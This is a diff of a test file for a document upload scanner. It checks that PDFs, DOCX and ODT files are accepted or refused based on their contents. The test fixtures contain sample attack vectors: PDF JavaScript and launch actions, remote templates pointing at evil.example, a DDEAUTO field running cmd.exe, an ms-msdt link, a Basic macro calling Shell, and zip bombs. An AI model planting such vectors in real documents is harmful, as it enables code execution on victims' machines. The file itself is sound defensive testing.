@@ -1,36 +1,158 @@
 import { describe, expect, it } from "vitest";
 import { strToU8, zipSync } from "fflate";
 import { scanDocument } from "../../functions/documents/scan-document.ts";
-import { aDocx, aDocxWith, anEncryptedDocx, anOdt, aPdf } from "./files.ts";
+import {
+  aDoc,
+  aDocx,
+  aDocxReferring,
+  aDocxReferringAs,
+  aDocxSaying,
+  aDocxWith,
+  aLongDocx,
+  aLyingDocx,
+  anEncryptedDocx,
+  anOdt,
+  aPdf,
+  aPdfBomb,
+  attached,
+  aZipBomb,
+  basicModule,
+  both,
+  content,
+  fieldInRuns,
+  launch,
+  library,
+  meta,
+  openPassword,
+  ownerPassword,
+  rewritten,
+  richMedia,
+  script,
+  xfa,
+} from "./files.ts";
 
+const PDF = "application/pdf";
+const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+const ODT = "application/vnd.oasis.opendocument.text";
 const MAIN = "wordprocessingml.document.main+xml";
 
 type Make = () => Promise<Uint8Array> | Uint8Array;
 
-const refuses = async (_name: string, make: Make) =>
-  expect((await scanDocument(await make())).scan).toBe("refused-type");
-
-describe("scanning a document", () => {
-  it.each([
-    ["a PDF", aPdf, "application/pdf"],
-    ["a DOCX", aDocx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
-    ["an ODT", async () => anOdt(), "application/vnd.oasis.opendocument.text"],
-  ])("%s is accepted (DOC-02)", async (_name, make, contentType) => {
+const accepts =
+  (contentType: string) =>
+  async (_name: string, make: Make): Promise<void> =>
     expect(await scanDocument(await make())).toEqual({ contentType, scan: "accepted" });
-  });
+const refuses = async (_name: string, scan: string, make: Make): Promise<void> =>
+  expect((await scanDocument(await make())).scan).toBe(scan);
 
+const joined = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
+
+describe("a document is a PDF, a DOCX or an ODT by its bytes (DOC-02)", () => {
   it.each<[string, Make]>([
     ["a text", () => strToU8("Beste, zie bijlage")],
     ["a web page", () => strToU8("<!doctype html><script>alert(1)</script>")],
     ["a program", () => Uint8Array.from([0x4d, 0x5a, ...new Uint8Array(200)])],
+    ["a shortcut", () => Uint8Array.from([0x4c, 0, 0, 0, 1, 0x14, 2, ...new Uint8Array(200)])],
     ["any other zip", () => zipSync({ "protocol.docx": strToU8("x") })],
-  ])("%s is refused (DOC-02)", refuses);
+    ["a document of Word 97", aDoc],
+    ["a PDF header after the first kilobyte", async () => joined(" ".repeat(1024), await aPdf())],
+  ])("%s is refused", (name, make) => refuses(name, "refused-type", make));
+});
 
+describe("a PDF (DOC-08)", () => {
   it.each<[string, Make]>([
-    ["a DOCX with a password", anEncryptedDocx],
-    ["a DOCX with macros inside", () => aDocx({ "word/vbaProject.bin": "macro" })],
+    ["as a person makes it", () => aPdf()],
+    ["with its objects in streams", () => aPdf(undefined, { useObjectStreams: true })],
+    ["with bytes before its header", async () => joined("HTTP/1.1 200 OK\r\n\r\n", await aPdf())],
+    ["with what a mail program put after it", async () => joined(await aPdf(), "\r\n-- \r\n")],
+    ["with a password for changes only", () => aPdf(ownerPassword)],
+    ["with a form", () => aPdf((pdf) => pdf.getForm().createTextField("naam").addToPage(pdf.getPage(0)))],
+  ])("%s is accepted", accepts(PDF));
+
+  const asObjects = { useObjectStreams: true };
+  it.each<[string, string, Make]>([
+    ["of five bytes", "refused-damaged", () => strToU8("%PDF-")],
+    ["cut off halfway", "refused-damaged", async () => (await aPdf()).slice(0, 600)],
+    ["cut off at its very end", "refused-damaged", async () => (await aPdf()).slice(0, -8)],
     [
-      "a macro-enabled document under another name",
+      "without a page",
+      "refused-damaged",
+      async () =>
+        rewritten(await aPdf(undefined, { useObjectStreams: false }), "/Type /Pages", "/Type /Nages"),
+    ],
+    ["with a password to open it", "refused-password", () => aPdf(openPassword)],
+    ["with JavaScript", "refused-script", () => aPdf(script, { useObjectStreams: false })],
+    ["with JavaScript in a stream of objects", "refused-script", () => aPdf(script, asObjects)],
+    ["with JavaScript among its names", "refused-script", () => aPdf((pdf) => pdf.addJavaScript("x", "1"))],
+    [
+      "with JavaScript under another spelling",
+      "refused-script",
+      async () =>
+        rewritten(
+          rewritten(await aPdf(script, { useObjectStreams: false }), "/S /JavaScript", "/S /J#61vaScript"),
+          "/JS ",
+          "/#4aS ",
+        ),
+    ],
+    [
+      "encrypted, with JavaScript in it",
+      "refused-script",
+      () => aPdf(both(script, ownerPassword), asObjects),
+    ],
+    ["with a dynamic form", "refused-script", () => aPdf(xfa)],
+    ["that starts a program", "refused-launch", () => aPdf(launch)],
+    ["that starts a program, by objects in a stream", "refused-launch", () => aPdf(launch, asObjects)],
+    ["with a file in it", "refused-attachment", () => aPdf(attached)],
+    ["with rich media", "refused-attachment", () => aPdf(richMedia)],
+    ["that unpacks to far more", "refused-unpacked", aPdfBomb],
+  ])("%s is refused as %s", refuses);
+});
+
+describe("a DOCX (DOC-03)", () => {
+  it.each<[string, Make]>([
+    ["as a person makes it", () => aDocx()],
+    ["of many pages", aLongDocx],
+    ["with what Word left in its bin", () => aDocx({ "[trash]/0000.dat": new Uint8Array(100) })],
+    ["with a picture", () => aDocx({ "word/media/image1.png": Uint8Array.from([0x89, 0x50, 0x4e, 0x47]) })],
+    [
+      "with a link to a page",
+      () => aDocxReferring("hyperlink", 'Target="https://led.example" TargetMode="External"'),
+    ],
+    [
+      "with the template of the own computer",
+      () =>
+        aDocxReferring(
+          "attachedTemplate",
+          'Target="file:///C:\\Sjablonen\\Brief.dotx" TargetMode="External"',
+        ),
+    ],
+    [
+      "with a chart and its numbers",
+      async () =>
+        aDocx({
+          "word/charts/_rels/chart1.xml.rels":
+            '<Relationships><Relationship Id="r1" Type="http://x/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>',
+          "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipSync({
+            "xl/workbook.xml": strToU8("<workbook/>"),
+          }),
+        }),
+    ],
+    ["with a field for the page", () => aDocxSaying(fieldInRuns(" PAGE "))],
+  ])("%s is accepted", accepts(DOCX));
+
+  const external = (kind: string, target: string) => () =>
+    aDocxReferring(kind, `Target="${target}" TargetMode="External"`);
+
+  it.each<[string, string, Make]>([
+    ["with a password", "refused-password", anEncryptedDocx],
+    ["cut off halfway", "refused-damaged", async () => (await aDocx()).slice(0, 2000)],
+    ["with two parts of one name", "refused-damaged", () => aDocx({ "WORD/document.xml": "<x/>" })],
+    ["with macros inside", "refused-macro", () => aDocx({ "word/vbaProject.bin": "macro" })],
+    ["with macros under another name", "refused-macro", () => aDocxReferring("vbaProject", 'Target="x.bin"')],
+    ["with a ribbon of its own", "refused-macro", () => aDocx({ "customUI/customUI14.xml": "<customUI/>" })],
+    [
+      "that is macro-enabled under another name",
+      "refused-macro",
       () =>
         aDocxWith("[Content_Types].xml", (text) =>
           text.replace(
@@ -40,20 +162,211 @@ describe("scanning a document", () => {
         ),
     ],
     [
-      "a template",
+      "that is a template",
+      "refused-type",
       () =>
         aDocxWith("[Content_Types].xml", (text) => text.replace(MAIN, MAIN.replace("document", "template"))),
     ],
-    ["a DOCX cut off halfway", async () => (await aDocx()).slice(0, 2000)],
-  ])("%s is refused (DOC-03)", refuses);
-
-  it.each<[string, Make]>([
-    ["a spreadsheet of OpenDocument", () => anOdt({}, "application/vnd.oasis.opendocument.spreadsheet")],
-    ["an ODT with macros", () => anOdt({ "Basic/Standard/Module1.xml": "macro" })],
-    ["an ODT with a password", () => anOdt({ "META-INF/manifest.xml": "<manifest:encryption-data/>" })],
     [
-      "an ODT without text",
+      "with a template from elsewhere",
+      "refused-remote",
+      external("attachedTemplate", "https://evil.example/x.dotm"),
+    ],
+    [
+      "with a template on a share",
+      "refused-remote",
+      external("attachedTemplate", "file:///\\\\10.0.0.1\\x\\x.dotm"),
+    ],
+    ["with a frame from elsewhere", "refused-remote", external("frame", "http://evil.example/frame.htm")],
+    ["with a picture from elsewhere", "refused-remote", external("image", "http://evil.example/pixel.png")],
+    ["with an object from elsewhere", "refused-remote", external("oleObject", "mhtml:http://evil.example/x")],
+    [
+      "with a link that starts a program",
+      "refused-remote",
+      external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+    ],
+    [
+      "with a template from elsewhere, in other spelling",
+      "refused-remote",
+      () =>
+        aDocxReferringAs(
+          `<r:Relationship xmlns:r="x" TargetMode='&#69;xternal' Id='a' Target='&#104;ttps://evil.example' Type='http://x/attachedTemplate'/>`,
+          "settings",
+        ),
+    ],
+    [
+      "with a template from elsewhere, in UTF-16",
+      "refused-remote",
+      () =>
+        aDocx({
+          "word/_rels/settings.xml.rels": Buffer.from(
+            '\uFEFF<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>',
+            "utf16le",
+          ),
+        }),
+    ],
+    [
+      "with entities of its own",
+      "refused-damaged",
+      () => aDocx({ "word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
+    ],
+    [
+      "with an object of another program",
+      "refused-object",
+      () => aDocx({ "word/embeddings/oleObject1.bin": "x" }),
+    ],
+    [
+      "with a program in it",
+      "refused-object",
+      () => aDocx({ "word/media/image1.png": Uint8Array.from([0x4d, 0x5a, 0x90]) }),
+    ],
+    [
+      "with a document in it",
+      "refused-object",
+      async () => aDocx({ "word/embeddings/x.docx": await aDocx() }),
+    ],
+    ["with a page of HTML in it", "refused-object", () => aDocxSaying('<w:altChunk r:id="rId99"/>')],
+    ["with ActiveX", "refused-object", () => aDocx({ "word/activeX/activeX1.xml": "<ocx/>" })],
+    [
+      "with macros in the numbers of a chart",
+      "refused-macro",
+      () => aDocx({ "word/embeddings/a.xlsx": zipSync({ "xl/vbaProject.bin": strToU8("x") }) }),
+    ],
+    [
+      "with DDE",
+      "refused-dde",
+      () => aDocxSaying(fieldInRuns(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
+    ],
+    [
+      "with DDE split over runs",
+      "refused-dde",
+      () => aDocxSaying(fieldInRuns(" D", "D", "E", ' "Excel" "x"')),
+    ],
+    [
+      "with DDE as a simple field",
+      "refused-dde",
+      () => aDocxSaying('<w:fldSimple w:instr=" ddeauto c:\\x "/>'),
+    ],
+    [
+      "with a text from elsewhere",
+      "refused-remote",
+      () => aDocxSaying(fieldInRuns(' INCLUDETEXT "http://evil.example/x"')),
+    ],
+    ["that unpacks to far more", "refused-unpacked", aZipBomb],
+    ["that unpacks to more than it says", "refused-unpacked", aLyingDocx],
+  ])("%s is refused as %s", refuses);
+});
+
+describe("an ODT (DOC-04)", () => {
+  it.each<[string, Make]>([
+    ["as a person makes it", () => anOdt()],
+    ["with an empty library of macros", () => anOdt(library())],
+    [
+      "with a new module in which nobody wrote anything",
+      () =>
+        anOdt({
+          ...library('<library:element library:name="Module1"/>'),
+          "Basic/Standard/Module1.xml": basicModule("REM  *****  BASIC  *****\n\nSub Main\n\nEnd Sub\n"),
+        }),
+    ],
+    [
+      "with a picture",
+      () =>
+        anOdt({
+          "content.xml": content('<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'),
+          "Pictures/1.png": Uint8Array.from([0x89, 0x50]),
+        }),
+    ],
+    [
+      "with a formula",
+      () =>
+        anOdt({
+          "Object 1/content.xml": "<math/>",
+          "content.xml": content('<draw:object xlink:href="./Object 1"/>'),
+        }),
+    ],
+    [
+      "with a link to a page",
+      () => anOdt({ "content.xml": content('<text:a xlink:href="https://led.example">x</text:a>') }),
+    ],
+    [
+      "with the template of the own computer",
+      () => anOdt({ "meta.xml": meta('<meta:template xlink:href="file:///home/an/brief.ott"/>') }),
+    ],
+  ])("%s is accepted", accepts(ODT));
+
+  const saying = (xml: string, scripts?: string) => () => anOdt({ "content.xml": content(xml, scripts) });
+
+  it.each<[string, string, Make]>([
+    [
+      "that is a spreadsheet",
+      "refused-type",
+      () => anOdt({}, "application/vnd.oasis.opendocument.spreadsheet"),
+    ],
+    [
+      "without text",
+      "refused-type",
       () => zipSync({ mimetype: [strToU8("application/vnd.oasis.opendocument.text"), { level: 0 }] }),
     ],
-  ])("%s is refused (DOC-04)", refuses);
+    [
+      "with macros",
+      "refused-macro",
+      () => anOdt({ "Basic/Standard/Module1.xml": basicModule('Shell("calc")') }),
+    ],
+    ["with a script in Python", "refused-macro", () => anOdt({ "Scripts/python/x.py": "import os" })],
+    [
+      "with a password",
+      "refused-password",
+      () =>
+        anOdt({
+          "META-INF/manifest.xml": "<m:manifest><m:encryption-data/></m:manifest>",
+          "content.xml": new Uint8Array([1, 2]),
+        }),
+    ],
+    [
+      "with a password, as LibreOffice now writes it",
+      "refused-password",
+      () => anOdt({ "encrypted-package": "x" }),
+    ],
+    [
+      "that listens to an event",
+      "refused-script",
+      saying(
+        "",
+        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>',
+      ),
+    ],
+    ["with a script", "refused-script", saying('<text:script script:language="JavaScript">x</text:script>')],
+    [
+      "with a link to a macro",
+      "refused-script",
+      saying('<text:a xlink:href="macro:///Standard.Module1.Main">x</text:a>'),
+    ],
+    ["with DDE", "refused-dde", saying('<text:dde-connection-decl office:dde-application="soffice"/>')],
+    [
+      "with an object of another program",
+      "refused-object",
+      saying('<draw:object-ole xlink:href="./Object 1"/>'),
+    ],
+    [
+      "with a program in it",
+      "refused-object",
+      () => anOdt({ "Pictures/1.png": Uint8Array.from([0x4d, 0x5a, 0]) }),
+    ],
+    [
+      "with a picture from elsewhere",
+      "refused-remote",
+      saying('<draw:image xlink:href="http://evil.example/p.png"/>'),
+    ],
+    [
+      "with a part from elsewhere",
+      "refused-remote",
+      saying('<text:section-source xlink:href="file:////10.0.0.1/x.odt"/>'),
+    ],
+    [
+      "with a template from elsewhere",
+      "refused-remote",
+      () => anOdt({ "meta.xml": meta('<meta:template xlink:href="https://evil.example/x.ott"/>') }),
+    ],
+  ])("%s is refused as %s", refuses);
 });
